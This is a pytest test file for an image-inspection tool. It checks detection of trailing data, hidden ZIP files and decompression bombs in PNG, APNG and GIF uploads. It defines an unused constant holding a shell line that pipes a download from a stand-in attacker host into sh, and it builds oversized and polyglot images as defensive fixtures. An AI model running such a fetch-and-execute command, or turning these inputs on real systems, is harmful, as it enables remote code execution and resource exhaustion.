"""What the packed points of a PNG or GIF unpack to, behind the last line of the picture."""

from __future__ import annotations

import io
import struct
import time
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image

from tests import samples
from tests.inspection.containers import PNG_SIGNATURE, ZIP_ENTRY, png_chunk, png_header
from tests.inspection.probing import probed, refused, understood
from transfer.inspection.anatomy import Anatomy
from transfer.inspection.lzw import unpack_lzw
from transfer.inspection.structure import dissect_picture
from transfer.inspection.structure_points import MOST_BEHIND, check_points, filtered_bytes
from transfer.model.findings import Code
from transfer.model.media import Format

ROWS = (b"\0" + bytes(16)) * 16
SCRIPT = b"#!/bin/sh\ncurl -s https://evil.example/x | sh\n"


def measured(content: bytes, form: Format) -> Anatomy:
    found = dissect_picture(content, form)
    assert (found.problems, found.truncated) == ([], False)
    check_points(found, content)
    return found


def png(packed: bytes, *more: bytes, early: bytes = b"", size: int = 16, split: int = 0) -> bytes:
    """A grey PNG with these packed data, in one chunk or in chunks of `split` bytes, and more chunks behind them."""
    step = split or len(packed)
    data = b"".join(png_chunk(b"IDAT", packed[at : at + step]) for at in range(0, len(packed), step))
    return PNG_SIGNATURE + png_header(size, size) + early + data + b"".join(more) + png_chunk(b"IEND")


def animated(*frames: bytes) -> bytes:
    """An APNG of 16 by 16 grey points; the first frame is IDAT."""
    parts, number = [], 1
    for packed in frames[1:]:
        parts.append(png_chunk(b"fcTL", struct.pack(">IIIIIHHBB", number, 16, 16, 0, 0, 1, 10, 0, 0)))
        parts.append(png_chunk(b"fdAT", struct.pack(">I", number + 1) + packed))
        number += 2
    control = png_chunk(b"fcTL", struct.pack(">IIIIIHHBB", 0, 16, 16, 0, 0, 1, 10, 0, 0))
    return png(frames[0], *parts, early=png_chunk(b"acTL", struct.pack(">II", len(frames), 0)) + control)


def bits(codes: list[tuple[int, int]]) -> bytes:
    """Codes with their widths, packed from the lowest bit on."""
    held = at = 0
    for code, width in codes:
        held |= code << at
        at += width
    return held.to_bytes((at + 7) // 8, "little")


def pack(codes: list[int], least: int) -> bytes:
    """Codes as an encoder would pack them: clear and end among them, the width as the dictionary grows."""
    clear = 1 << least
    entries, width, first, out = clear + 2, least + 1, True, []
    for code in codes:
        out.append((code, width))
        if code == clear:
            entries, width, first = clear + 2, least + 1, True
            continue
        entries += 0 if first or entries == 4096 else 1
        first = False
        if entries == 1 << width and width < 12:
            width += 1
    return bits(out)


def gif(packed: bytes, *, size: int = 16, least: int = 2) -> bytes:
    blocks = b"".join(
        bytes((len(part),)) + part for part in (packed[at : at + 255] for at in range(0, len(packed), 255))
    )
    picture = b"\x2c" + struct.pack("<HHHHB", 0, 0, size, size, 0) + bytes((least,)) + blocks + b"\0"
    return b"GIF89a" + struct.pack("<HHBBB", size, size, 0x81, 0, 0) + bytes(12) + picture + b"\x3b"


def plain(points: int, *rest: int) -> bytes:
    """Codes that need no dictionary, for so many points."""
    return pack([code for _ in range(points) for code in (4, 1)] + list(rest), 2)


@pytest.mark.parametrize("mode", ["1", "L", "P", "RGB", "RGBA", "LA", "I;16"])
@pytest.mark.parametrize("size", [(1, 1), (7, 5), (301, 3)])
def test_what_an_encoder_writes_ends_with_its_last_line(mode: str, size: tuple[int, int]) -> None:
    for form in (Format.PNG, Format.GIF) if mode in {"1", "L", "P"} else (Format.PNG,):
        out = io.BytesIO()
        Image.effect_noise(size, 90).convert(mode).save(out, form.value.rpartition("/")[2].upper())
        found = measured(out.getvalue(), form)
        assert (found.behind_points, found.inflates, found.seconds, len(found.packed)) == (0, "", [], 1)


@given(width=st.integers(1, 40), height=st.integers(1, 40), bits=st.sampled_from([1, 2, 4, 8, 16, 24, 32, 48, 64]))
def test_the_lines_of_an_interlaced_picture_hold_each_point_once(width: int, height: int, bits: int) -> None:
    interlaced = filtered_bytes(width, height, bits=bits, interlaced=True)
    lines = sum(
        len(range(top, height, down))
        for left, top, across, down in (
            (0, 0, 8, 8),
            (4, 0, 8, 8),
            (0, 4, 4, 8),
            (2, 0, 4, 4),
            (0, 2, 2, 4),
            (1, 0, 2, 2),
            (0, 1, 1, 2),
        )
        if range(left, width, across)
    )
    plain_bytes = filtered_bytes(width, height, bits=8, interlaced=False) - height
    if bits >= 8:
        assert interlaced - lines == plain_bytes * bits // 8
    else:
        assert interlaced - lines >= width * height * bits // 8


@pytest.mark.parametrize("split", [0, 1, 7])
def test_a_few_bytes_behind_the_last_line_are_a_note(split: int) -> None:
    _, findings = understood(png(zlib.compress(ROWS + b"abc"), split=split), ".png")
    assert findings[Code.TRAILING_DATA]["bytes"] == 3
    _, findings = understood(png(zlib.compress(ROWS) + b"four", split=split), ".png")
    assert findings[Code.TRAILING_DATA]["bytes"] == 4
    assert Code.TRAILING_DATA not in understood(png(zlib.compress(ROWS), split=split), ".png")[1]


def test_padding_behind_packed_data_is_nothing() -> None:
    assert Code.TRAILING_DATA not in understood(png(zlib.compress(ROWS) + bytes(9)), ".png")[1]
    assert Code.TRAILING_DATA not in understood(gif(plain(256, 5) + b"\0"), ".gif")[1]  # as FFmpeg writes it


def test_data_without_an_end_of_their_own_pass() -> None:
    packer = zlib.compressobj()
    packed = packer.compress(ROWS) + packer.flush(zlib.Z_SYNC_FLUSH)
    assert Code.TRAILING_DATA not in understood(png(packed), ".png")[1]


@pytest.mark.parametrize("more", [MOST_BEHIND + 1, 1_000_000, 300_000_000])
def test_much_behind_the_last_line_is_refused(more: int) -> None:
    packer = zlib.compressobj(9)
    packed = packer.compress(ROWS)
    for _ in range(more // 1_000_000):
        packed += packer.compress(bytes(1_000_000))
    packed += packer.compress(bytes(more % 1_000_000)) + packer.flush()
    started = time.process_time()
    assert refused(png(packed), ".png") is Code.INFLATES
    assert refused(animated(zlib.compress(ROWS), zlib.compress(ROWS), packed), ".png") is Code.INFLATES
    assert time.process_time() - started < 5


@pytest.mark.parametrize(
    "packed",
    [zlib.compress(ROWS + ZIP_ENTRY), zlib.compress(ROWS) + ZIP_ENTRY, zlib.compress(ROWS) + ZIP_ENTRY * 1_000],
)
def test_a_file_behind_the_last_line_is_found(packed: bytes) -> None:
    for content in (png(packed), animated(zlib.compress(ROWS), packed)):
        _, findings = understood(content, ".png")
        assert findings[Code.SECOND_FILE]["looks"] == "zip"


def test_packed_data_that_break_off_behind_the_last_line_are_a_breach() -> None:
    packer = zlib.compressobj()
    packed = packer.compress(ROWS + b"abc") + packer.flush(zlib.Z_SYNC_FLUSH) + b"\x07 is no block" * 100
    facts, (finding,) = probed(png(packed), ".png")
    assert facts is None
    assert "do not end as they should" in str(finding.detail["problem"])


def test_too_little_is_left_to_the_decoder() -> None:
    assert refused(png(zlib.compress(ROWS[:-40])), ".png") is Code.UNDECODABLE


def test_points_of_a_gif_behind_its_last_one() -> None:
    assert Code.TRAILING_DATA not in understood(gif(plain(256, 5)), ".gif")[1]
    assert Code.TRAILING_DATA not in understood(gif(plain(256)), ".gif")[1]
    assert understood(gif(plain(260, 5)), ".gif")[1][Code.TRAILING_DATA]["bytes"] == 4
    assert understood(gif(plain(256, 5) + b"junk"), ".gif")[1][Code.TRAILING_DATA]["bytes"] == 4
    assert understood(gif(plain(256, 5) + ZIP_ENTRY), ".gif")[1][Code.SECOND_FILE]["looks"] == "zip"
    assert refused(gif(plain(257 + MOST_BEHIND, 5)), ".gif") is Code.INFLATES
    growing = pack([4, 1, *range(6, 4096)], 2)  # each code stands for one point more
    assert refused(gif(growing * 100), ".gif") is Code.INFLATES


def test_a_code_without_meaning_behind_the_last_point_hides_nothing() -> None:
    wrong = gif(pack([4, *([1, 4] * 256), 1, 7, 7], 2) + ZIP_ENTRY)
    found = measured(wrong, Format.GIF)
    assert [second.looks for second in found.seconds] == ["zip"]


def test_a_dictionary_that_is_emptied_on_and_on_costs_little() -> None:
    started = time.process_time()
    found = dissect_picture(content := gif(pack([4] * 8, 2) * 2_000_000, size=4_000), Format.GIF)
    check_points(found, content)
    assert "far more steps" in found.problems[0].problem
    assert time.process_time() - started < 10


def unpacked(codes: list[int], least: int) -> int:
    """A plain decoder that makes the points, as far as the codes have a meaning."""
    clear = 1 << least
    table: list[int] = []
    total, before = 0, 0
    for code in codes:
        if code == clear:
            table, before = [], 0
            continue
        if code == clear + 1:
            break
        if not before and code > clear:
            break
        entry, lengths = code - clear - 2, [*table, before + 1]
        length = 1 if code < clear else lengths[entry] if entry < len(lengths) else 0
        if not length:
            break
        if before and len(table) + clear + 2 < 4096:
            table.append(before + 1)
        total, before = total + length, length
    return total


@given(least=st.integers(2, 8), data=st.data())
def test_counting_agrees_with_decoding(least: int, data: st.DataObject) -> None:
    codes, entries = [1 << least], (1 << least) + 1
    for _ in range(data.draw(st.integers(0, 60))):
        code = data.draw(st.integers(0, min(entries, 4095)))
        codes += [code] * data.draw(st.sampled_from([1, 1, 1, 90]))
        entries = (1 << least) + 1 if code == 1 << least else entries + 1
    codes.append((1 << least) + 1)
    found = unpack_lzw(pack(codes, least), least, needs=0, most=1 << 40, most_runs=10_000)
    assert found is not None
    assert found.points == unpacked(codes, least)


@pytest.mark.parametrize("least", [2, 5, 8])
def test_a_full_dictionary_is_counted_too(least: int) -> None:
    codes = [1 << least, *[n % (1 << least) for n in range(20_000)], (1 << least) + 1]
    found = unpack_lzw(pack(codes, least), least, needs=19_990, most=1 << 40, most_runs=10)
    assert found is not None
    assert (found.points, found.behind) == (10, 0)


@given(packed=st.binary(max_size=3_000), least=st.integers(1, 11))
def test_counting_ends_quietly_whatever_stands_there(packed: bytes, least: int) -> None:
    unpack_lzw(packed, least, needs=100, most=5_000, most_runs=1_000)


@given(data=st.data())
def test_mutated_pictures_are_measured_quietly(data: st.DataObject) -> None:
    form, content = data.draw(
        st.sampled_from([(Format.PNG, animated(zlib.compress(ROWS), zlib.compress(ROWS))), (Format.GIF, samples.gif())])
    )
    changed = bytearray(content)
    for _ in range(data.draw(st.integers(1, 4))):
        changed[data.draw(st.integers(0, len(changed) - 1))] = data.draw(st.integers(0, 255))
    found = dissect_picture(bytes(changed), form)
    if sum(points.needs for points in found.packed) < 1 << 24:
        check_points(found, bytes(changed))
